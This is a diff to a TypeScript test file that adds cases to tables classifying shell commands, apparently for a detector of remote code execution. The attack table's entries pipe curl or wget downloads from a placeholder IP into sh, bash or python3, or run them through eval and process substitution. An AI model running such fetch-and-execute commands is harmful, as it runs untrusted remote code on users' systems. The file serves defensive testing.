@@ -26,6 +26,8 @@ const attacks: readonly (readonly [string, readonly string[], string, Envelope?]
     script('curl -H "X: y" http://203.0.113.7/x | sudo /bin/sh'),
     "decided elsewhere",
   ],
+  ["curl into Python", script("curl -s http://203.0.113.7/x.py | python3 -"), "decided elsewhere"],
+  ["curl over two lines", script("curl -s http://203.0.113.7/x \\\n  | bash"), "decided elsewhere"],
   ["wget into a shell, second line", script("cd /tmp\nwget -qO- http://203.0.113.7/x | sh"), "decided elsewhere"],
   ["download inside of eval", script("eval $(curl -s http://203.0.113.7/x)"), "decided elsewhere"],
   ["process substitution", script("bash <(curl -s http://203.0.113.7/x)"), "decided elsewhere"],
@@ -47,6 +49,18 @@ const ordinary: readonly (readonly [string, readonly string[], string])[] = [
   ["download into jq", script("curl -s https://example.com/x | jq .name"), "it is read only"],
   ["wait for a port", script("until nc -z db 5432; do sleep 1; done"), "it only tries a port"],
   ["wait for a port by name", script("nc -zv -w 5 ecommerce 443 && sh /app/start"), "it only tries a port"],
+  ["download into a formatter", script("curl -s https://example.com/x | python3 -m json.tool"), "it is read only"],
+  [
+    "download, then a script of its own",
+    script("curl -fsSLo /d https://example.com/d; cat /app/x | sh"),
+    "not what comes",
+  ],
+  [
+    "wait for a port, then a shell",
+    script("until nc -z db 5432; do sleep 1; done; exec bash -c sh"),
+    "not for the port",
+  ],
+  ["key of SSH", ["ssh", "-i", "/keys/id", "db"], "no interactive shell"],
   ["decoded to a file", script("echo $CONF | base64 -d > /etc/app/conf"), "nothing of it is run"],
   ["decoded, then a shell", script("echo $CONF | base64 -d > /tmp/c; cat /tmp/c | shasum"), "shasum is no shell"],
 ];
